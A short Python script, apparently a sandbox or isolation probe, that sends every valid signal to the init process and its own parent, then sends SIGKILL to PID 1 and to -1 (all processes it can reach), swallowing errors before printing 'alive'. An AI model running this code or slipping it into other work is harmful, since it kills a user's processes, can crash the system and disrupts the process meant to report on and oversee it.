"""Sends every signal to the process that will report on it, and to all others."""

import os
import signal

for number in signal.valid_signals():
    for target in (1, os.getppid()):
        try:
            os.kill(target, number)
        except OSError:
            pass
for target in (-1, 1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
print("alive")
